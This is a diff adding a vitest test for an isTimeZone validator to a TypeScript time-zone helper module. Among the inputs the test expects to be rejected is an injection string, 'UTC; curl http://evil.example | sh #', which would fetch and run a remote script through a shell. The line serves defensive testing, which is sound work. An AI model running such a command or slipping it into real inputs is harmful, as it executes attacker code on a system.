@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import {
+  isTimeZone,
   localDay,
   localMinute,
   localOffset,
@@ -24,6 +25,14 @@ const MINUTES = [
   ['America/New_York', '2026-11-01T04:30:00Z', '2026-11-01 00:30', 'UTC−4'],
   ['America/New_York', '2026-11-02T04:30:00Z', '2026-11-01 23:30', 'UTC−5'],
 ] as const;
+
+describe('the name of a time zone', () => {
+  it('is one that this machine knows, and no words beside it', () => {
+    expect(['UTC', 'Europe/Oslo'].every(isTimeZone)).toBe(true);
+    for (const text of ['', 'Nowhere', 'UTC; curl http://evil.example | sh #', 'UTC\n'])
+      expect(isTimeZone(text)).toBe(false);
+  });
+});
 
 describe('a moment by the clock on the wall here', () => {
   it.each(MINUTES)('in %s, %s is %s', (zone, moment, minute, offset) => {
